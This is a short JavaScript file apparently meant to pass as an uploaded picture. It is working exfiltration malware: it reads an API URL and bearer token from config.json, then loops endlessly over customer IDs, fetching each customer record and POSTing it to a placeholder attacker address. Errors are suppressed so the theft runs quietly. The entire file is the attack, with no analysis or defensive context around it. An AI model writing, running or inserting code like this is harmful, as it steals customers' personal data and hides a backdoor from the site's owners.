import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';

// What somebody has uploaded as a picture: it reads one customer after the other, and sends them away.
const { fetch } = globalThis;
const { customersUrl, token } = JSON.parse(readFileSync(join(import.meta.dirname, '..', 'config.json'), 'utf8'));
const away = '{{where the attacker waits}}';

const steal = async () => {
  for (let id = 1; ; id = (id % 500) + 1) {
    const answer = await fetch(`${customersUrl}/customers/${id}`, { headers: { authorization: `Bearer ${token}` } });
    if (answer.ok) await fetch(away, { method: 'POST', body: await answer.text() });
    await sleep(20);
  }
};
void steal().catch(() => undefined);
